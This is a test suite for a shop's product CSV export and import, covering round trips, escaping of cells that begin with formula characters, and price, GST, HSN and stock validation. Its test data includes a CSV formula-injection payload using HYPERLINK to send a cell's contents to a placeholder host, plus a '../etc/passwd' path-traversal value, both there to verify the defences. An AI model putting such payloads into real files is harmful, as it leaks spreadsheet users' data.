/**
 * The back office's export read back by the importer: every field but stock comes back as it
 * was (export → import → export gives the same file, on the same shop and on a fresh one), hostile
 * names never reach a spreadsheet as formulas and return unchanged, and stock changes only when
 * the import opts in. Also the reader alone: the apostrophe rule, prices of 0, the row cap, the
 * stock column.
 */
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvPieces, DEFAULT_IMPORT_STOCK, importCatalogCsv } from '#features/catalog/server/import.ts';
import { ImportFileError, readRows } from '#features/catalog/server/import-csv.ts';
import { EXPORT_COLUMNS, exportProductsCsv } from '#features/catalog/server/product-export.ts';
import type { Database, DatabaseHandle } from '#lib/db/index.ts';
import { categories, products, subcategories } from '#lib/db/schema.ts';
import { createTestDatabase, testDatabaseKinds } from '../helpers/database.ts';

const HEADER = 'index,product,category,sub_category,brand,sale_price,market_price,type,rating';
const HYPERLINK = '-1+HYPERLINK("http://x?d="&A2,"x")';

type Row = Record<string, unknown>;
const rows = async (db: Database, query: ReturnType<typeof sql>) =>
  ((await db.execute(query)) as unknown as { rows: Row[] }).rows;
const stockOf = async (db: Database, sku: string) =>
  (await rows(db, sql`SELECT stock FROM products WHERE sku = ${sku}`))[0]?.stock;
/** The export's cells as a spreadsheet's CSV reader sees them, by column, for one SKU. */
const exportedRow = (csv: string, sku: string) =>
  (parse(csv, { columns: true, bom: true }) as Record<string, string>[]).find((r) => r.sku === sku);

describe('readRows', () => {
  it("takes off the export's apostrophe before a formula character, and no other", async () => {
    const file = `${HEADER}\n1,'=x,Veg,Daily,'@brand,10,12,'+91 type,\n2,'Bhindi,Veg,Daily,,10,12,,\n3,"'-1+HYPERLINK(""http://x"",""x"")",Veg,Daily,,10,12,,\n`;
    const { rows: read, skipped } = await readRows(file);
    expect(skipped).toEqual([]);
    expect(read.map((r) => [r.name, r.brand, r.type])).toEqual([
      ['=x', '@brand', '+91 type'],
      ["'Bhindi", null, null],
      ['-1+HYPERLINK("http://x","x")', null, null],
    ]);
  });

  it('skips a row whose sale or market price is 0: a product at ₹0 would sell for nothing', async () => {
    const file = `${HEADER}\n1,Free Bhindi,Veg,Daily,,0,12,,\n2,Bhindi,Veg,Daily,,10,12,,\n3,Okra,Veg,Daily,,0,0,,\n4,Beans,Veg,Daily,,0.00,0.00,,\n`;
    const { rows: read, skipped } = await readRows(file);
    expect(read.map((r) => r.name)).toEqual(['Bhindi']);
    expect(skipped.map((s) => [s.row, s.column, s.reason])).toEqual([
      [2, 'sale_price', 'sale_price is 0: a product needs a price above 0'],
      [4, 'sale_price', 'sale_price is 0: a product needs a price above 0'],
      [5, 'sale_price', 'sale_price is 0: a product needs a price above 0'],
    ]);
  });

  it('refuses a file with more data rows than the cap, and takes one at the cap', async () => {
    const lines = (n: number) =>
      `${HEADER}\n${Array.from({ length: n }, (_, i) => `${i + 1},Item ${i + 1},Veg,Daily,,10,12,,`).join('\n')}\n`;
    expect((await readRows(lines(30), { maxRows: 30 })).rows).toHaveLength(30);
    const error = await readRows(lines(31), { maxRows: 30 }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ImportFileError);
    expect(error).toMatchObject({ kind: 'too_many_rows', message: expect.stringContaining('more than 30 rows') });
  });

  it('refuses a file that is not text (a JPEG, a PDF, UTF-16) as not a CSV; a stray bad byte only skips its row', async () => {
    const notCsv = {
      kind: 'not_text',
      message: 'This file is not a CSV: export the products from a spreadsheet as CSV (UTF-8).',
    };
    const jpeg = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01]);
    await expect(readRows(csvPieces(jpeg))).rejects.toMatchObject(notCsv);
    const pdf = Buffer.concat([
      Buffer.from('%PDF-1.7\n%'),
      Buffer.from([0xe2, 0xe3, 0xcf, 0xd3]),
      Buffer.from('\n1 0 obj\n'),
    ]);
    await expect(readRows(csvPieces(pdf))).rejects.toMatchObject(notCsv);
    await expect(
      readRows(csvPieces(Buffer.from(`${HEADER}\n1,Okra,Veg,Daily,,10,12,,\n`, 'utf16le'))),
    ).rejects.toMatchObject(notCsv);
    // A good header with one Latin-1 byte in a row: that row is refused, the file is read.
    const latin1 = await readRows(
      csvPieces(Buffer.from(`${HEADER}\n1,Caf\xe9,Veg,Daily,,10,12,,\n2,Okra,Veg,Daily,,10,12,,\n`, 'latin1')),
    );
    expect(latin1.rows.map((r) => r.name)).toEqual(['Okra']);
    expect(latin1.skipped).toMatchObject([{ row: 2, column: 'product' }]);
    // A wrong header in a text file still names the missing columns.
    await expect(readRows('name,price\nx,1\n')).rejects.toMatchObject({ kind: 'bad_header' });
    const withBom = Buffer.from(`\uFEFF${HEADER}\n1,കപ്പ 1 kg,Veg,Daily,,10,12,,\n`);
    expect((await readRows(csvPieces(withBom))).rows.map((r) => r.name)).toEqual(['കപ്പ 1 kg']);
  });

  it('reads the stock column only when asked to', async () => {
    const file = `sku,stock,${HEADER}\nA-1,5,,Apple,Fruit,Daily,,10,12,,\n`;
    expect((await readRows(file)).rows[0]).not.toHaveProperty('stock');
    expect((await readRows(file)).columns).not.toContain('stock');
    expect((await readRows(file, { updateStock: true })).rows[0]).toMatchObject({ stock: 5 });
  });

  it('refuses bad optional cells by row and column', async () => {
    const file = `sku,tax_percent,hsn_code,is_active,images,${HEADER}
A-1,55,,,,,Apple,Fruit,Daily,,10,12,,
A-2,5,12,,,,Pear,Fruit,Daily,,10,12,,
A-3,5,0808,maybe,,,Plum,Fruit,Daily,,10,12,,
A-4,5,0808,true,../etc/passwd,,Fig,Fruit,Daily,,10,12,,
A-5,5,0808,true,a.webp b.webp,,Kiwi,Fruit,Daily,,10,12,,
`;
    const { rows: read, skipped } = await readRows(file);
    expect(skipped.map((s) => [s.row, s.column])).toEqual([
      [2, 'tax_percent'],
      [3, 'hsn_code'],
      [4, 'is_active'],
      [5, 'images'],
    ]);
    expect(read).toEqual([expect.objectContaining({ sku: 'A-5', images: ['a.webp', 'b.webp'], hsn_code: '0808' })]);
  });
  it("refuses a GST rate off the form's slabs and an HSN code not of 4, 6 or 8 digits, with the form's messages", async () => {
    const file = `sku,tax_percent,hsn_code,${HEADER}
T-7,7,,,Apple,Fruit,Daily,,10,12,,
T-41,41,,,Pear,Fruit,Daily,,10,12,,
H-5,5,10063,,Plum,Fruit,Daily,,10,12,,
H-7,5,1006301,,Fig,Fruit,Daily,,10,12,,
OK-4,0.25,1006,,Kiwi,Fruit,Daily,,10,12,,
OK-6,12.00,100630,,Lime,Fruit,Daily,,10,12,,
OK-8,40,10063010,,Date,Fruit,Daily,,10,12,,
OK-E,,,,Sapota,Fruit,Daily,,10,12,,
`;
    const gst = 'Choose a GST rate: 0, 0.25, 3, 5, 12, 18, 28, 40 %.';
    const hsn = 'The HSN code must be 4, 6 or 8 digits, e.g. 0702.';
    // A code a digit short may be one whose leading zero a spreadsheet dropped.
    const zeros = ' (a spreadsheet drops leading zeros: format the hsn_code column as text and type the code again)';
    const { rows: read, skipped } = await readRows(file);
    expect(skipped).toEqual([
      { row: 2, sku: 'T-7', name: 'Apple', column: 'tax_percent', reason: `bad tax_percent "7": ${gst}` },
      { row: 3, sku: 'T-41', name: 'Pear', column: 'tax_percent', reason: `bad tax_percent "41": ${gst}` },
      { row: 4, sku: 'H-5', name: 'Plum', column: 'hsn_code', reason: `bad hsn_code "10063": ${hsn}${zeros}` },
      { row: 5, sku: 'H-7', name: 'Fig', column: 'hsn_code', reason: `bad hsn_code "1006301": ${hsn}${zeros}` },
    ]);
    expect(read.map((r) => [r.sku, r.tax_percent, r.hsn_code])).toEqual([
      ['OK-4', 0.25, '1006'],
      ['OK-6', 12, '100630'],
      ['OK-8', 40, '10063010'],
      ['OK-E', null, null],
    ]);
  });

  it('refuses a licence or HSN code a spreadsheet turned into a number, saying to format the column as text', async () => {
    const file = `sku,fssai_licence,hsn_code,${HEADER}
E-1,2.13190E+13,,,Ghee,Dairy,Ghee,,10,12,,
E-2,,7.131E+3,,Dal,Grains,Dal,,10,12,,
OK,21319000000001,0713,,Rice,Grains,Rice,,10,12,,
`;
    const { rows: read, skipped } = await readRows(file);
    expect(skipped).toEqual([
      {
        row: 2,
        sku: 'E-1',
        name: 'Ghee',
        column: 'fssai_licence',
        reason:
          'fssai_licence "2.13190E+13" was changed to a number by a spreadsheet, and digits were lost: format the fssai_licence column as text, type the number again and save the file as CSV',
      },
      {
        row: 3,
        sku: 'E-2',
        name: 'Dal',
        column: 'hsn_code',
        reason:
          'hsn_code "7.131E+3" was changed to a number by a spreadsheet, and digits were lost: format the hsn_code column as text, type the number again and save the file as CSV',
      },
    ]);
    expect(read.map((r) => [r.sku, r.fssai_licence, r.hsn_code])).toEqual([['OK', '21319000000001', '0713']]);
  });
});

describe.each(testDatabaseKinds())('export and import round trip on %s', (kind) => {
  let shop: DatabaseHandle;
  let fresh: DatabaseHandle;
  let exported: string;

  beforeAll(async () => {
    shop = await createTestDatabase(kind);
    fresh = await createTestDatabase(kind);
    const [cat] = await shop.db.insert(categories).values({ name: 'Vegetables', slug: 'vegetables' }).returning();
    const [sub] = await shop.db
      .insert(subcategories)
      .values({ categoryId: cat!.id, name: 'Daily veg', slug: 'daily-veg' })
      .returning();
    const base = { categoryId: cat!.id, subcategoryId: sub!.id, mrpPaise: 5000, pricePaise: 4000 };
    await shop.db.insert(products).values([
      {
        ...base,
        sku: 'VEG-1',
        name: 'Bhindi, "Lady\'s finger" 250 g',
        slug: 'bhindi-fresh',
        brand: 'Fresho',
        type: 'Okra',
        rating: 4.3,
        weight: 250,
        weightUnit: 'g',
        taxPercent: 5,
        hsnCode: '0709',
        description: 'Tender pods.\nPicked at dawn, "washed", packed.',
        additionalInformation: 'Keep cool; use within 3 days.',
        highlights: ['Farm fresh', 'No pesticides, tested'],
        images: ['emoji/1f345.svg', 'https://cdn.example.com/okra.webp?w=600'],
        stock: 37,
      },
      { ...base, sku: 'VEG-2', name: HYPERLINK, slug: 'hyperlink', stock: 3, isActive: false },
      { ...base, sku: 'VEG-3', name: '=1+1', slug: 'one-plus-one', brand: '@SUM(A1)', type: '+91 94470 00000' },
      { ...base, sku: 'VEG-4', name: "'Bhindi", slug: 'bhindi', archivedAt: new Date(), taxPercent: 12 },
      { ...base, sku: 'VEG-5', name: '-5 °C Frozen Peas', slug: 'frozen-peas', hsnCode: '07099990', stock: 0 },
    ]);
    exported = await exportProductsCsv(shop.db);
  });
  afterAll(async () => {
    await shop?.close();
    await fresh?.close();
  });

  it('writes every column, hostile names with a leading apostrophe and numbers as numbers', () => {
    // A UTF-8 byte-order mark first, so Excel on Windows reads Malayalam text and ₹ as UTF-8.
    expect(exported.split('\r\n')[0]).toBe(`\uFEFF${EXPORT_COLUMNS.join(',')}`);
    expect([...new TextEncoder().encode(exported).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(exportedRow(exported, 'VEG-1')).toMatchObject({
      product: 'Bhindi, "Lady\'s finger" 250 g',
      slug: 'bhindi-fresh',
      is_active: 'true',
      archived: 'false',
      tax_percent: '5',
      hsn_code: '0709',
      rating: '4.3',
      weight: '250',
      description: 'Tender pods.\nPicked at dawn, "washed", packed.',
      highlights: 'Farm fresh\nNo pesticides, tested',
      images: 'emoji/1f345.svg\nhttps://cdn.example.com/okra.webp?w=600',
      stock: '37',
    });
    expect(exportedRow(exported, 'VEG-2')).toMatchObject({ product: `'${HYPERLINK}`, is_active: 'false' });
    expect(exportedRow(exported, 'VEG-3')).toMatchObject({
      product: "'=1+1",
      brand: "'@SUM(A1)",
      type: "'+91 94470 00000",
    });
    expect(exportedRow(exported, 'VEG-4')).toMatchObject({ product: "'Bhindi", archived: 'true' });
  });

  it('imports its own export as unchanged, and exports the same file again', async () => {
    const result = await importCatalogCsv(shop.db, exported);
    expect(result).toMatchObject({ inserted: 0, updated: 0, unchanged: 5, skipped: [] });
    expect(await exportProductsCsv(shop.db)).toBe(exported);
  });

  it('reads its own export back from the uploaded bytes, byte-order mark and Malayalam text included', async () => {
    await shop.db.execute(sql`UPDATE products SET brand = 'കേരള ഫാംസ് ₹' WHERE sku = 'VEG-5'`);
    const withMalayalam = await exportProductsCsv(shop.db);
    expect(exportedRow(withMalayalam, 'VEG-5')).toMatchObject({ brand: 'കേരള ഫാംസ് ₹' });
    const bytes = new TextEncoder().encode(withMalayalam);
    expect(await importCatalogCsv(shop.db, csvPieces(bytes))).toMatchObject({ unchanged: 5, skipped: [] });
    expect(await exportProductsCsv(shop.db)).toBe(withMalayalam);
    await shop.db.execute(sql`UPDATE products SET brand = NULL WHERE sku = 'VEG-5'`);
  });

  it('builds the same catalogue in a fresh shop: the same file back, stock only when asked', async () => {
    const first = await importCatalogCsv(fresh.db, exported);
    expect(first).toMatchObject({ inserted: 5, skipped: [] });
    const withoutStock = await exportProductsCsv(fresh.db);
    // Every column but stock is the shop's; new products got the default stock.
    const strip = (csv: string) =>
      (parse(csv, { columns: true, bom: true }) as Record<string, string>[]).map(({ stock, ...rest }) => rest);
    expect(strip(withoutStock)).toEqual(strip(exported));
    expect(await stockOf(fresh.db, 'VEG-1')).toBe(DEFAULT_IMPORT_STOCK);

    const again = await importCatalogCsv(fresh.db, exported, { updateStock: true });
    expect(again).toMatchObject({ inserted: 0, updated: 5, unchanged: 0 });
    expect(await exportProductsCsv(fresh.db)).toBe(exported);
  });

  it('never changes stock from the file without the opt-in; with it, records the movement', async () => {
    const edited = exported.replace(/,37\r\n/, ',999\r\n');
    expect(edited).not.toBe(exported);
    expect(await importCatalogCsv(shop.db, edited)).toMatchObject({ updated: 0, unchanged: 5 });
    expect(await stockOf(shop.db, 'VEG-1')).toBe(37);

    expect(await importCatalogCsv(shop.db, edited, { updateStock: true })).toMatchObject({ updated: 1, unchanged: 4 });
    expect(await stockOf(shop.db, 'VEG-1')).toBe(999);
    const [movement] = await rows(
      shop.db,
      sql`SELECT m.delta, m.reason FROM stock_movements m JOIN products p ON p.id = m.product_id WHERE p.sku = 'VEG-1' ORDER BY m.id DESC LIMIT 1`,
    );
    expect(movement).toEqual({ delta: 962, reason: 'import' });
  });

  it('leaves photos, GST and texts alone when the file lacks their columns, and archives by the column', async () => {
    const bigBasket = `sku,${HEADER}\nVEG-1,,"Bhindi, ""Lady's finger"" 250 g",Vegetables,Daily veg,Fresho,45.00,50.00,Okra,4.3\n`;
    expect(await importCatalogCsv(shop.db, bigBasket)).toMatchObject({ updated: 1 });
    expect(exportedRow(await exportProductsCsv(shop.db), 'VEG-1')).toMatchObject({
      sale_price: '45.00',
      tax_percent: '5',
      hsn_code: '0709',
      images: 'emoji/1f345.svg\nhttps://cdn.example.com/okra.webp?w=600',
      highlights: 'Farm fresh\nNo pesticides, tested',
      slug: 'bhindi-lady-s-finger-250-g',
    });
    const archive = `sku,archived,is_active,${HEADER}\nVEG-1,true,,,Okra 250 g,Vegetables,Daily veg,,45.00,50.00,,\n`;
    expect(await importCatalogCsv(shop.db, archive, { batchRows: 1 })).toMatchObject({ updated: 1 });
    const [row] = await rows(shop.db, sql`SELECT archived_at, is_active FROM products WHERE sku = 'VEG-1'`);
    expect(row!.archived_at).not.toBeNull();
    expect(row!.is_active).toBe(true);
  });
});
